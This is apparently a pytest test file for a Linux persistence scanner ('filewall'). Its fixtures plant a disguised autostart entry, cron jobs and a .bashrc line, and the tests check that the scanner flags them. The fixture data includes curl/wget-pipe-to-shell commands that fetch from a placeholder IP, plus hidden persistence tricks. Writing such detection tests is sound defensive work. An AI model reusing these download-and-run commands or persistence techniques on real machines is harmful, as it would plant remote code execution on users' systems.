"""The Linux collectors on this very machine, with a throw-away HOME: a planted XDG
autostart entry and a user crontab (in a fixture spool folder, not the system's) are
found; ordinary entries beside them are not flagged; a real process running from a temp
folder is found; filewall's own logon entry is known-good; what cannot be read (a real
permission error, as an unprivileged user) is listed."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
import traceback
from pathlib import Path

import pytest

from filewall.desktop import autostart
from filewall.desktop.sweep import SweepOptions, run_sweep
from filewall.desktop.sweep.processes import connection_entry, country_of


@pytest.fixture
def home(tmp_path, monkeypatch):
    home = tmp_path / "home" / "agent"
    (home / ".config" / "autostart").mkdir(parents=True)
    (home / ".config" / "systemd" / "user" / "default.target.wants").mkdir(parents=True)
    (home / ".cache" / ".x").mkdir(parents=True)
    (home / ".cache" / ".x" / "upd").write_bytes(b"#!/bin/sh\nexec curl -s http://203.0.113.9/a | sh\n")
    (home / ".config" / "autostart" / "gnome-update.desktop").write_text(
        "[Desktop Entry]\nType=Application\nName=GNOME Update Helper\nExec=sh -c \"$HOME/.cache/.x/upd\"\n"
        "X-GNOME-Autostart-enabled=true\n")
    (home / ".config" / "autostart" / "nm-applet.desktop").write_text(
        "[Desktop Entry]\nType=Application\nName=Network\nExec=/usr/bin/nm-applet --indicator %u\n")
    unit = home / ".config" / "systemd" / "user" / "backup.service"
    unit.write_text("[Unit]\nDescription=Nightly backup\n[Service]\nType=oneshot\n"
                    "ExecStart=/usr/bin/rsync -a %h/Documents /srv/backup\n[Install]\nWantedBy=default.target\n")
    (home / ".config" / "systemd" / "user" / "default.target.wants" / "backup.service").symlink_to(unit)
    (home / ".bashrc").write_text("alias ll='ls -l'\n. \"$HOME/.cargo/env\"\nexport PATH=$HOME/.local/bin:$PATH\n"
                                  "nohup /tmp/.ICE-unix/.k >/dev/null 2>&1 &\n")
    spool = tmp_path / "spool"
    spool.mkdir()
    (spool / "agent").write_text("# m h dom mon dow command\nMAILTO=\"\"\n"
                                 "*/5 * * * * wget -q -O- http://203.0.113.9/s.sh | bash\n"
                                 "@reboot /home/agent/.cache/.x/upd\n"
                                 "30 2 * * * /usr/bin/find /home/agent/tmp -mtime +7 -delete\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return home, spool


def by_name(result, name, source=None):
    found = [entry for entry in result.entries if name in entry.name and (source is None or entry.source == source)]
    assert found, f"{name} not in {[(e.source, e.name) for e in result.entries]}"
    return found[0]


def rules(entry):
    return {finding.rule for finding in entry.findings}


def test_live_linux_user(home):
    home_dir, spool = home
    result = run_sweep(SweepOptions(os="linux", homes=[home_dir], cron_spools=[spool], files=False, processes=False))
    assert result.target.live
    planted = by_name(result, "GNOME Update Helper", "xdg_autostart")
    assert planted.verdict == "malicious" and "sweep.starts_from_temp" in rules(planted)
    assert planted.image == f"{home_dir}/.cache/.x/upd" and planted.image_exists
    assert planted.scan is not None and planted.scan["sha256"]  # the file it starts was scanned
    assert by_name(result, "Network", "xdg_autostart").verdict == "clean"

    crons = [entry for entry in result.entries if entry.source == "cron" and str(spool) in entry.location]
    assert len(crons) == 3
    wget = next(entry for entry in crons if "wget" in entry.command)
    assert wget.verdict == "malicious" and "sweep.command_downloads" in rules(wget)
    reboot = next(entry for entry in crons if entry.details["schedule"] == "@reboot")
    assert reboot.verdict == "malicious" and reboot.details["user"] == "agent"
    find = next(entry for entry in crons if "/usr/bin/find" in entry.command)
    assert find.verdict == "clean"

    backup = by_name(result, "backup.service (user)", "systemd")
    assert backup.verdict == "clean" and backup.details["enabled"]
    rc = [entry for entry in result.entries if entry.source == "shell_rc" and entry.location.startswith(str(home_dir))]
    assert [entry.location.rsplit(":", 1)[1] for entry in rc] == ["4"]  # only the nohup line from /tmp
    assert rc[0].verdict != "clean"


def test_own_logon_entry_is_known_good(home, tmp_path):
    home_dir, spool = home
    installed = autostart.install(tmp_path / "data", home=home_dir, system="linux")
    assert installed.where == str(home_dir / ".config" / "autostart" / "filewall-watch.desktop")
    result = run_sweep(SweepOptions(os="linux", homes=[home_dir], cron_spools=[spool], files=False, processes=False))
    own = by_name(result, "filewall watch", "xdg_autostart")
    assert own.known_good and own.verdict == "clean" and [f.rule for f in own.findings] == ["sweep.own_entry"]
    assert autostart.uninstall(home=home_dir, system="linux") == [installed.where]
    assert autostart.uninstall(home=home_dir, system="linux") == []


def test_a_process_running_from_a_temp_folder(tmp_path):
    folder = Path(tempfile.mkdtemp(prefix="fw-sweep-", dir="/tmp"))
    program = folder / "kworker"
    shutil.copy("/bin/sleep", program)  # our own harmless program, not a scanned sample
    process = subprocess.Popen([str(program), "60"])
    try:
        result = run_sweep(SweepOptions(os="linux", homes=[tmp_path], cron_spools=[], files=False))
        mine = [entry for entry in result.entries if entry.category == "process" and entry.details["pid"] == process.pid]
        assert mine, "the process in /tmp was not listed"
        assert mine[0].image == str(program) and "sweep.process_temp_folder" in rules(mine[0])
        assert mine[0].scan is not None and mine[0].scan["type"] == "elf"
        for entry in result.entries:  # this test's own Python may live in a user folder: known, not flagged
            if entry.category == "process" and entry.details["pid"] == os.getpid():
                assert entry.known_good and entry.verdict == "clean"
    finally:
        process.kill()
        process.wait()
        shutil.rmtree(folder)


def test_connection_countries_offline():
    assert country_of("8.8.8.8") == "US"
    assert country_of("114.114.114.114") == "CN"
    assert country_of("10.1.2.3") is None and country_of("not an ip") is None
    unknown = {"name": "svchos1.exe", "exe": r"C:\Users\Public\Documents\MM\svchos1.exe", "cmdline": [],
               "deleted": False, "folder_class": "public"}
    abroad = connection_entry(unknown, "8.8.8.8", 6666, "ESTABLISHED", "CN", pid=42)
    assert [f.rule for f in abroad.findings] == [] and abroad.facts[0][0] == "sweep.connection_abroad"
    home = connection_entry(unknown, "114.114.114.114", 53, "ESTABLISHED", "CN", pid=42)
    assert home.facts == []
    known = dict(unknown, folder_class="program_files", exe=r"C:\Program Files\Google\Chrome\chrome.exe")
    assert connection_entry(known, "8.8.8.8", 443, "ESTABLISHED", "CN", pid=43).facts == []
    assert abroad.details["country"] == "US"


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to drop to another user")
def test_what_cannot_be_read_is_listed():
    """A real permission error: the sweep runs as 'nobody' (a forked child that dropped
    its rights) against a root-only autostart folder and crontab spool."""
    base = Path(tempfile.mkdtemp(prefix="fw-perm-", dir="/tmp"))
    try:
        base.chmod(0o755)
        home_dir = base / "home"
        (home_dir / ".config" / "autostart").mkdir(parents=True)
        (home_dir / ".config" / "autostart" / "x.desktop").write_text("[Desktop Entry]\nExec=/tmp/x\n")
        for path in (home_dir, home_dir / ".config"):
            path.chmod(0o755)
        (home_dir / ".config" / "autostart").chmod(0o700)  # root only
        spool = base / "spool"
        spool.mkdir(mode=0o700)
        options = SweepOptions(os="linux", homes=[home_dir], cron_spools=[spool], files=False, processes=False)
        run_sweep(options)  # as root first: every module is loaded before the rights are dropped
        read, write = os.pipe()
        pid = os.fork()
        if pid == 0:  # the child: become nobody, sweep, report, exit
            try:
                os.close(read)
                os.environ.update({"HOME": str(home_dir), "FILEWALL_DATA": str(base / "data")})
                os.setgroups([])
                os.setgid(65534)
                os.setuid(65534)
                data = run_sweep(options).to_dict()["unreadable"]
                os.write(write, json.dumps(data).encode())
            except BaseException:
                os.write(write, traceback.format_exc().encode())
            finally:
                os._exit(0)
        os.close(write)
        chunks = []
        while chunk := os.read(read, 65536):
            chunks.append(chunk)
        os.close(read)
        os.waitpid(pid, 0)
        output = b"".join(chunks)
        assert output.startswith(b"["), output.decode(errors="replace")
        unreadable = json.loads(output)
        by_path = {item["path"]: item["reason"] for item in unreadable}
        assert str(home_dir / ".config" / "autostart") in by_path and str(spool) in by_path
        assert by_path[str(spool)].startswith("no permission")
    finally:
        shutil.rmtree(base)
